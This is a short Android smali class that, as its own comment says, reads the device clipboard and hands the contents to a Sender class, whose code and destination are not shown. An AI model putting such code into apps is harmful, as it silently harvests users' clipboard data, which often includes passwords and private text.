# Reads the clipboard and sends it.
.class public Lcn/example/app/Clip;
.super Ljava/lang/Object;
.source "Clip.java"

.method public static read(Landroid/content/Context;)V
    .registers 3
    const-string v0, "clipboard"
    invoke-virtual {p0, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/content/ClipboardManager;
    invoke-virtual {v0}, Landroid/content/ClipboardManager;->getPrimaryClip()Landroid/content/ClipData;
    move-result-object v0
    if-eqz v0, :empty
    invoke-virtual {v0}, Landroid/content/ClipData;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "clip"
    invoke-static {v1, v0}, Lcn/example/app/Sender;->send(Ljava/lang/String;Ljava/lang/String;)V
    :empty
    return-void
.end method
